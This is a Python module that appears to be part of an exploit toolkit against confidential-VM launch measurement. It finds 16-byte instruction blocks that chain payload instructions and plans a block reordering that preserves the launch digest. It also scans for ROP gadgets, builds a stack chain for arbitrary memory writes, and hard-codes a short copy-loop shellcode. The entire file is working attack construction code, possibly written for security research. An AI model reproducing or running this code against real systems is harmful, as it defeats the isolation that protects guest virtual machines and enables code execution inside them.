"""Attack construction: finding 16-byte blocks that execute one payload
instruction and hand control to the next placed block, planning a
digest-preserving permutation around them, and building the ROP write chain
that turns stack control into arbitrary encrypted writes.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass, field
from enum import Enum

from .crypto import BLOCK_SIZE, LoadCall
from .disasm import Instr, Kind, decode_at
from .errors import (
    LengthNotMultipleOf16,
    MissingGadgetKind,
    NoChainFound,
    PlacementConflict,
)

# Stage 1: park the stack pointer on the hypervisor-controlled shared page.
STAGE1_SEQUENCE = (Kind.CPUID, Kind.MOV_ESP_ECX, Kind.RET)

# Stage 2 write primitive wants exactly these three gadget payloads.
ROP_GADGET_KINDS = (Kind.POP_RAX, Kind.POP_RDX, Kind.MOV_MEM_RAX_RDX)

NOP_TOLERANCE = 4


class ExitKind(Enum):
    FALLTHROUGH = "fallthrough"
    JMP = "jmp"


@dataclass(frozen=True)
class ChainLink:
    """A 16-byte block usable as one step of the executable chain.

    Entered at ``entry_offset`` it runs the payload instruction, then either
    falls off the end of the block or takes an adjacent direct jump landing
    inside the next contiguously placed block at ``next_entry``.
    """

    block_index: int
    entry_offset: int
    payload: Kind
    exit_kind: ExitKind
    next_entry: int = 0
    uses_rel32: bool = False

    def exit_entry(self) -> int:
        return 0 if self.exit_kind is ExitKind.FALLTHROUGH else self.next_entry


def _block(image: bytes, index: int) -> bytes:
    return image[index * BLOCK_SIZE : (index + 1) * BLOCK_SIZE]


def _link_at(block: bytes, block_index: int, entry: int, wanted: Kind) -> ChainLink | None:
    payload = decode_at(block, entry)
    if payload.kind is not wanted:
        return None
    end = entry + payload.length
    if end == BLOCK_SIZE:
        return ChainLink(block_index, entry, wanted, ExitKind.FALLTHROUGH)
    # junk between payload and jump would execute; require adjacency
    jmp = decode_at(block, end)
    if jmp.kind not in (Kind.JMP_REL8, Kind.JMP_REL32):
        return None
    jmp_end = end + jmp.length
    if jmp_end > BLOCK_SIZE:
        return None
    landing = jmp_end + jmp.disp
    # only forward exits into the immediately following placed block
    if not BLOCK_SIZE <= landing < 2 * BLOCK_SIZE:
        return None
    return ChainLink(
        block_index,
        entry,
        wanted,
        ExitKind.JMP,
        next_entry=landing - BLOCK_SIZE,
        uses_rel32=jmp.kind is Kind.JMP_REL32,
    )


def verify_chain_link(image: bytes, link: ChainLink) -> bool:
    """Re-derive the link from the image bytes; the scanner and the builder
    ground truth both have to pass this."""
    block = _block(image, link.block_index)
    if len(block) != BLOCK_SIZE:
        return False
    return _link_at(block, link.block_index, link.entry_offset, link.payload) == link


def scan_chain_links(image: bytes, wanted: Kind) -> list[ChainLink]:
    """All chain links for one payload kind, ordered by block then entry."""
    if len(image) % BLOCK_SIZE != 0:
        raise LengthNotMultipleOf16("image must be whole 16-byte blocks")
    links = []
    for index in range(len(image) // BLOCK_SIZE):
        block = _block(image, index)
        for entry in range(BLOCK_SIZE):
            link = _link_at(block, index, entry, wanted)
            if link is not None:
                links.append(link)
    return links


def build_block_chain(
    image: bytes,
    payload_sequence=STAGE1_SEQUENCE,
    *,
    first_entry: int | None = None,
    forbidden_blocks=frozenset(),
) -> list[ChainLink]:
    """Pick one link per payload so each link's exit lands exactly on the
    next link's entry offset.

    Deterministic: candidates are tried lowest block index first, then
    lowest entry offset; rel8 exits are preferred over rel32. Blocks listed
    in ``forbidden_blocks`` (the boot path) are never used, and no block is
    used twice since each is placed once.
    """
    if not payload_sequence:
        return []
    candidates = []
    for kind in payload_sequence:
        found = [
            link
            for link in scan_chain_links(image, kind)
            if link.block_index not in forbidden_blocks
        ]
        found.sort(key=lambda l: (l.uses_rel32, l.block_index, l.entry_offset))
        candidates.append(found)

    chain: list[ChainLink] = []
    used: set[int] = set()

    def extend(pos: int, entry_needed: int | None) -> bool:
        if pos == len(payload_sequence):
            return True
        for link in candidates[pos]:
            if link.block_index in used:
                continue
            if entry_needed is not None and link.entry_offset != entry_needed:
                continue
            chain.append(link)
            used.add(link.block_index)
            if extend(pos + 1, link.exit_entry()):
                return True
            chain.pop()
            used.remove(link.block_index)
        return False

    if not extend(0, first_entry):
        raise NoChainFound(
            f"no block chain realizes {[k.name for k in payload_sequence]}"
        )
    return chain


@dataclass
class PermutationPlan:
    """A digest-preserving reordering and the load schedule that realizes it.

    ``placement`` lists where every original block lands; ``load_order``
    keeps original data order, which is exactly why the streamed digest
    cannot see the difference.
    """

    placement: list[tuple[int, int]]  # (block_index, target_hpa)
    load_order: list[LoadCall]
    chain_entry_hpa: int
    chain_entry_offset: int
    chain: list[ChainLink] = field(default_factory=list)
    hpa_base: int = 0
    gpa_base: int = 0

    @property
    def is_identity(self) -> bool:
        return all(
            hpa == self.hpa_base + index * BLOCK_SIZE for index, hpa in self.placement
        )

    def slot_of(self, block_index: int) -> int:
        return (dict(self.placement)[block_index] - self.hpa_base) // BLOCK_SIZE

    def to_dict(self) -> dict:
        return {
            "hpa_base": self.hpa_base,
            "gpa_base": self.gpa_base,
            "placement": [{"block": b, "hpa": h} for b, h in self.placement],
            "load_order": [
                {"hpa": c.hpa, "gpa": c.gpa, "length": c.length} for c in self.load_order
            ],
            "chain_entry_hpa": self.chain_entry_hpa,
            "chain_entry_offset": self.chain_entry_offset,
            "chain": [
                {
                    "block": l.block_index,
                    "entry": l.entry_offset,
                    "payload": l.payload.name,
                    "exit": l.exit_kind.value,
                    "next_entry": l.next_entry,
                }
                for l in self.chain
            ],
        }


def plan_permutation(
    image: bytes,
    chain: list[ChainLink],
    entry_hook: int,
    *,
    do_not_move=frozenset(),
    hpa_base: int = 0,
    gpa_base: int = 0,
) -> PermutationPlan:
    """Place the chain blocks contiguously at the block position the boot
    flow hands control to, swapping the displaced blocks into the chain
    blocks' old slots, and schedule all loads in original data order.
    """
    if len(image) % BLOCK_SIZE != 0:
        raise LengthNotMultipleOf16("image must be whole 16-byte blocks")
    n = len(image) // BLOCK_SIZE
    targets = range(entry_hook, entry_hook + len(chain))
    if targets and targets[-1] >= n:
        raise PlacementConflict("chain does not fit between the hook and image end")
    clash = (set(l.block_index for l in chain) | set(targets)) & set(do_not_move)
    if clash:
        raise PlacementConflict(f"chain would disturb protected boot blocks {sorted(clash)}")

    # slot_to_block[s] = block currently placed at slot s; compose transpositions
    slot_to_block = list(range(n))
    block_to_slot = list(range(n))
    for link, target in zip(chain, targets):
        src = block_to_slot[link.block_index]
        displaced = slot_to_block[target]
        slot_to_block[src], slot_to_block[target] = displaced, link.block_index
        block_to_slot[displaced], block_to_slot[link.block_index] = src, target

    placement = [(b, hpa_base + block_to_slot[b] * BLOCK_SIZE) for b in range(n)]
    load_order = [
        LoadCall(
            hpa=hpa_base + block_to_slot[b] * BLOCK_SIZE,
            gpa=gpa_base + block_to_slot[b] * BLOCK_SIZE,
            length=BLOCK_SIZE,
            data=_block(image, b),
        )
        for b in range(n)
    ]
    entry_offset = chain[0].entry_offset if chain else 0
    return PermutationPlan(
        placement=placement,
        load_order=load_order,
        chain_entry_hpa=hpa_base + entry_hook * BLOCK_SIZE,
        chain_entry_offset=entry_offset,
        chain=list(chain),
        hpa_base=hpa_base,
        gpa_base=gpa_base,
    )


def apply_permutation(image: bytes, plan: PermutationPlan) -> bytes:
    """The image as it will actually sit in memory under the plan."""
    out = bytearray(len(image))
    for block_index, hpa in plan.placement:
        slot = (hpa - plan.hpa_base) // BLOCK_SIZE
        out[slot * BLOCK_SIZE : (slot + 1) * BLOCK_SIZE] = _block(image, block_index)
    return bytes(out)


@dataclass(frozen=True)
class RopGadget:
    """A payload instruction that reaches a return within a few NOPs."""

    gva: int
    kind: Kind
    pattern: bytes


def scan_rop_gadgets(image: bytes, load_base_gva: int = 0) -> list[RopGadget]:
    """Every pop-rax / pop-rdx / store gadget ending in ret (NOP slack up to
    four bytes), addressed relative to where the image is loaded."""
    gadgets = []
    for off in range(len(image)):
        instr = decode_at(image, off)
        if instr.kind not in ROP_GADGET_KINDS:
            continue
        j = off + instr.length
        nops = 0
        while j < len(image) and image[j] == 0x90 and nops < NOP_TOLERANCE:
            j += 1
            nops += 1
        if j < len(image) and image[j] == 0xC3:
            gadgets.append(
                RopGadget(gva=load_base_gva + off, kind=instr.kind, pattern=bytes(image[off : j + 1]))
            )
    return gadgets


@dataclass
class RopChain:
    """Stack words realizing a sequence of 8-byte writes, then a jump."""

    stack_words: list[int]

    def to_bytes(self) -> bytes:
        return struct.pack(f"<{len(self.stack_words)}Q", *self.stack_words)


def build_write_chain(
    gadgets: list[RopGadget],
    writes: list[tuple[int, int]],
    final_jump_gva: int,
) -> RopChain:
    """For each (gva, value) write, chain pop-address, pop-value, store; end
    by returning into ``final_jump_gva`` (the freshly written code)."""
    best: dict[Kind, RopGadget] = {}
    for gadget in gadgets:
        if gadget.kind not in best or gadget.gva < best[gadget.kind].gva:
            best[gadget.kind] = gadget
    missing = [k.name for k in ROP_GADGET_KINDS if k not in best]
    if missing:
        raise MissingGadgetKind(f"image offers no {', '.join(missing)} gadget")
    words: list[int] = []
    for gva, value in writes:
        words += [
            best[Kind.POP_RAX].gva,
            gva,
            best[Kind.POP_RDX].gva,
            value,
            best[Kind.MOV_MEM_RAX_RDX].gva,
        ]
    words.append(final_jump_gva)
    return RopChain(stack_words=words)


def copy_payload() -> bytes:
    """The six-byte copy loop: pop source, destination and count from the
    (attacker-visible) stack, rep movsb, halt."""
    return b"\x5e\x5f\x59\xf3\xa4\xf4"
